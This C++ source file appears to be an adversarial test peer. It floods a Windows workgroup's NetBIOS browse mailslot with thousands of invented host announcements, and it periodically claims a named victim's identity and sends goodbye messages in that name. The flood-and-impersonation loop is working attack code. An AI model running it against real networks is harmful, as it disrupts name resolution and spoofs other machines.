// presence_flood_peer VICTIM SECONDS
// A hostile host: for SECONDS it announces ever new computer names to the workgroup,
// claims VICTIM's name and sends goodbyes in VICTIM's name, all from its own address.
#include <chrono>
#include <cstdlib>
#include <iostream>
#include <string>
#include <thread>

#include "platform/net/Carrier.h"
#include "platform/net/Config.h"
#include "platform/net/Presence.h"

using namespace hw::platform::net;

namespace {

void Send(const std::string& name, std::uint32_t type) {
  THostAnnouncement a;
  a.server_name = name;
  a.server_type = type;
  a.periodicity_ms = 86400000;
  a.comment = "flood";
  TMailslotDatagram d;
  d.type = TDatagramType::DirectGroup;
  d.source_ip = CarrierSourceAddress();
  d.source = {name, 0};
  d.destination = {Config().workgroup, 0x1D};
  d.mailslot = "\\MAILSLOT\\BROWSE";
  d.data = EncodeBrowseMessage(a);
  SendCarrierDatagram(EncodeDatagram(d), std::nullopt);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  const std::string victim = argv[1];
  const auto until = std::chrono::steady_clock::now() + std::chrono::duration<double>(std::atof(argv[2]));
  long sent = 0;
  while (std::chrono::steady_clock::now() < until) {
    Send("FLOOD" + std::to_string(sent % 5000), 3);
    // About 5,000 a second: a flood of names, not of bandwidth.
    if (sent % 10 == 0) std::this_thread::sleep_for(std::chrono::milliseconds(2));
    if (++sent % 50 == 0) {
      Send(victim, 3);
      Send(victim, 0);
    }
  }
  std::cout << "sent " << sent << "\n";
  return 0;
}
